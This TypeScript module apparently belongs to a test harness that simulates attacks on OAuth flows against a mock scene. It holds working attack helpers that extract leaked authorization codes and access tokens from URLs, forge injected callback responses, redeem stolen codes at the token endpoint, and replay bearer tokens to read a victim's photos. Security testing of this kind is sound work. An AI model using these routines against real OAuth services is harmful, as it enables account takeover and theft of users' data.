import { ALICES_PHOTO } from "../../src/grants/cast.ts";
import { jsonObject } from "../../src/oauth/json.ts";
import { formRequest } from "../../src/oauth/wire.ts";
import { send } from "./listen.ts";
import { callbackOf } from "./print/setup.ts";
import type { Scene } from "./scene.ts";
import type { Sites } from "./sites.ts";

/** What an address gave away. */
export interface Loot {
  readonly code?: string;
  readonly token?: string;
}

/** An answer as the attacker writes it: what was stolen, and the state of the attacker's own sign-in (RFC 9700 §4.5). */
export function forgedAnswer({ origins }: Sites, loot: Loot, state: string): string {
  const { code, token = "" } = loot;
  const credential = code === undefined ? { access_token: token } : { code };
  const parameters = new URLSearchParams({ ...credential, state, iss: origins.auth });
  return `${callbackOf(origins)}${code === undefined ? "#" : "?"}${parameters}`;
}

/** The first credential in these addresses. */
export function lootIn(addresses: readonly string[]): Loot | undefined {
  return addresses.map(credentialIn).find((loot) => loot !== undefined);
}

function credentialIn(address: string): Loot | undefined {
  if (!URL.canParse(address)) return undefined;
  const { searchParams, hash } = new URL(address);
  const token = new URLSearchParams(hash.slice(1)).get("access_token");
  const code = searchParams.get("code");
  if (token !== null) return { token };
  return code === null ? undefined : { code };
}

interface Redemption {
  readonly redirectUri?: string;
  readonly verifier?: string;
}

/** Uses what was taken at the API, a code being redeemed first; the proof when Alice's photos came. */
export async function spendLoot(
  scene: Scene,
  loot: Loot | undefined,
  redemption: Redemption = {},
): Promise<string | undefined> {
  if (loot === undefined) return undefined;
  const token = loot.token ?? (await redeemed(scene, loot.code ?? "", redemption));
  return token === undefined ? undefined : callApi(scene, token);
}

/** The attacker redeems a code as the client, whose id is no secret. */
async function redeemed(
  { sites, target }: Scene,
  code: string,
  { redirectUri = callbackOf(sites.origins), verifier }: Redemption,
): Promise<string | undefined> {
  const fields = {
    grant_type: "authorization_code",
    code,
    redirect_uri: redirectUri,
    client_id: target.client.id,
    ...(verifier === undefined ? {} : { code_verifier: verifier }),
  };
  const { body } = await send(formRequest(`${sites.origins.auth}/token`, fields));
  const token = jsonObject(body)?.["access_token"];
  return typeof token === "string" ? token : undefined;
}

/** Calls the API with a stolen token. */
export async function callApi({ sites }: Scene, token: string): Promise<string | undefined> {
  const headers = [["Authorization", `Bearer ${token}`]] as const;
  const { status, body } = await send({
    method: "GET",
    url: `${sites.origins.api}/photos`,
    headers,
  });
  return status === 200 && body.includes(ALICES_PHOTO)
    ? "GET /photos answered 200 with Alice’s photos"
    : undefined;
}
